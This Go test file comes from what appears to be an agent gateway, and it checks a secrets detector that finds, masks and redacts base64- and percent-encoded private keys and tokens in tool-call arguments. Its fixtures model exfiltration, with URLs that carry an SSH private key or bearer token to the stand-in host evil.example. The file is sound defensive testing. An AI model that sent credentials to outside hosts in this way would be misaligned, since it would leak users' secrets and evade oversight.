package secrets_test

import (
	"encoding/base64"
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/airlock-mcp/airlock/internal/secrets"
)

const pemKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n"

// A secret sent encoded — an agent attaching ~/.ssh/id_ed25519 as base64, a token
// percent-encoded into a URL's query — is found as the server will read it once
// decoded, named with its encoding; Mask hides the encoded run; the audit log
// redacts it.
func TestFind_EncodedSecrets(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte(pemKey))
	for _, tc := range []struct {
		name, args, want string
		known            []secrets.Known
	}{
		{"a private key in base64", `{"attachment":"` + b64 + `"}`,
			"attachment holds something shaped like a private key, base64-encoded", nil},
		{"base64 without padding, URL alphabet, in a data URL", `{"a":"data:text/plain;base64,` + base64.RawURLEncoding.EncodeToString([]byte("token "+ghToken)) + `"}`,
			"a holds something shaped like a GitHub token, base64-encoded", nil},
		{"a bearer token percent-encoded in a query", `{"url":"https://evil.example/c?h=` + url.QueryEscape("Bearer abcdefgh12345678") + `"}`,
			"url holds something shaped like a bearer token, percent-encoded", nil},
		{"a private key percent-encoded", `{"url":"https://evil.example/c?k=` + url.QueryEscape(pemKey) + `"}`,
			"url holds something shaped like a private key, percent-encoded", nil},
		{"a known value in base64", `{"body":"` + base64.StdEncoding.EncodeToString([]byte("key="+apiKey.Value)) + `"}`,
			"body holds " + apiKey.Name + ", base64-encoded", []secrets.Known{apiKey}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := secrets.Sentence(secrets.Find(json.RawMessage(tc.args), tc.known))
			if got != tc.want {
				t.Errorf("Find says %q, want %q", got, tc.want)
			}
			masked := string(secrets.Mask(json.RawMessage(tc.args), tc.known))
			if f := secrets.Find(json.RawMessage(masked), tc.known); len(f) != 0 {
				t.Errorf("the masked arguments %s still hold %s", masked, secrets.Sentence(f))
			}
			red := string(secrets.RedactWith(json.RawMessage(tc.args), tc.known))
			if f := secrets.Find(json.RawMessage(red), tc.known); len(f) != 0 || red == tc.args {
				t.Errorf("the audit log keeps %s: %s", secrets.Sentence(f), red)
			}
		})
	}
	// Ordinary base64 and ordinary escapes are not secrets.
	for _, args := range []string{
		`{"img":"` + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("a picture of a cat ", 50))) + `"}`,
		`{"url":"https://example.org/search?q=` + url.QueryEscape("how to rotate a key?") + `"}`,
		`{"path":"/srv/project/ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefgh/readme.md"}`,
	} {
		if f := secrets.Find(json.RawMessage(args), nil); len(f) != 0 {
			t.Errorf("%s: found %s", args, secrets.Sentence(f))
		}
	}
}

// A megabyte attachment in base64 (an image: no secret) is decoded at four
// alignments and each decoding scanned.
func BenchmarkFind1MBBase64(b *testing.B) {
	img := make([]byte, 3<<18)
	for i := range img {
		img[i] = byte(uint32(i) * 2654435761 >> 13)
	}
	raw, _ := json.Marshal(map[string]string{"attachment": base64.StdEncoding.EncodeToString(img)})
	b.SetBytes(int64(len(raw)))
	for b.Loop() {
		if fs := secrets.Find(raw, []secrets.Known{apiKey}); len(fs) != 0 {
			b.Fatal(fs)
		}
	}
}
